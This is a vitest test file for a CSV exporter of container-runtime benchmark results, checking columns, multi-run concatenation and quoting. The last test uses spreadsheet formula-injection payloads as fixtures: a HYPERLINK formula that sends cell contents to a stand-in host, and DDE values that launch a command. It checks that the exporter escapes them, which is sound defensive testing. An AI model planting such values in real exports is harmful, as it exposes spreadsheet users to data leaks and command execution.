import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, toCsv, toCsvMany } from '../../reports/csv.ts';
import { loadFixture } from './fixtures.ts';
import { HOSTILE, hostileDoc } from './hostile.ts';

/** RFC 4180 reader, enough to read back what the exporter wrote. */
function parse(text: string, _opts: { columns: true }): Record<string, string>[] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
    } else field += ch;
  }
  const [header, ...rows] = records;
  return rows.map((r) => Object.fromEntries((header ?? []).map((h, i) => [h, r[i] ?? ''])));
}

describe('CSV exporter', () => {
  const doc = loadFixture('single-host.json');

  it('one row per sample with every label a column', () => {
    const rows = parse(toCsv(doc), { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS]);
    expect(rows.length).toBe(doc.measurements.reduce((n, m) => n + m.samples.length, 0));
    const first = doc.measurements[0];
    expect(rows[0]).toMatchObject({
      runId: doc.runId,
      host: 'ci-x86',
      arch: 'amd64',
      emulated: 'false',
      layer: 'oci',
      runtime: first?.labels.runtime,
      runtimeVersion: '1.1.5',
      suite: 'startup',
      metric: 'lifecycle',
      unit: 'ns',
      workload: 'hello',
      workloadKind: 'native',
      sample: '0',
      value: String(first?.samples[0]),
    });
  });

  it('several documents concatenate under one header, told apart by runId and host', () => {
    const other = loadFixture('arm64-emulated.json');
    const rows = parse(toCsvMany([doc, other]), { columns: true }) as Record<string, string>[];
    const n = (d: typeof doc) => d.measurements.reduce((s, m) => s + m.samples.length, 0);
    expect(rows.length).toBe(n(doc) + n(other));
    expect(new Set(rows.map((r) => r.runId))).toEqual(new Set([doc.runId, other.runId]));
    expect(rows.filter((r) => r.emulated === 'true').every((r) => r.arch === 'arm64' && r.host === 'build-02')).toBe(true);
  });

  it('quotes hostile strings so they round-trip', () => {
    const rows = parse(toCsv(hostileDoc()), { columns: true }) as Record<string, string>[];
    expect(rows[0]?.host).toBe(`host${HOSTILE}`);
  });

  it('writes cells that a spreadsheet would read as a formula with a leading quote', () => {
    const doc = structuredClone(loadFixture('single-host.json'));
    const m = doc.measurements[0]!;
    const hostile = {
      host: '=HYPERLINK("http://x.invalid/?"&A1,"open")',
      runtime: '+cmd|" /C calc"!A0',
      runtimeVersion: '-2+3+cmd|" /C calc"!A0',
      workload: '@SUM(1+1)*cmd|" /C calc"!A0',
      metric: '\t=1+1',
      unit: '\r=1+1',
    };
    doc.host.hostname = hostile.host;
    m.labels.host = hostile.host;
    doc.runtimes = doc.runtimes.map((r) => (r.name === m.labels.runtime ? { ...r, name: hostile.runtime, version: hostile.runtimeVersion } : r));
    m.labels.runtime = hostile.runtime;
    m.labels.workload = hostile.workload;
    m.metric = hostile.metric;
    m.unit = hostile.unit as typeof m.unit;
    m.samples = [-5, 7];
    doc.measurements = [m];
    const rows = parse(toCsv(doc), { columns: true });
    expect(rows).toHaveLength(2);
    for (const [column, value] of Object.entries(hostile)) expect(rows[0]?.[column], column).toBe(`'${value}`);
    // numbers are not formulas: a negative sample stays a number
    expect(rows.map((r) => r.value)).toEqual(['-5', '7']);
    expect(rows[0]).toMatchObject({ sample: '0', layer: 'oci', emulated: 'false' });
  });
});
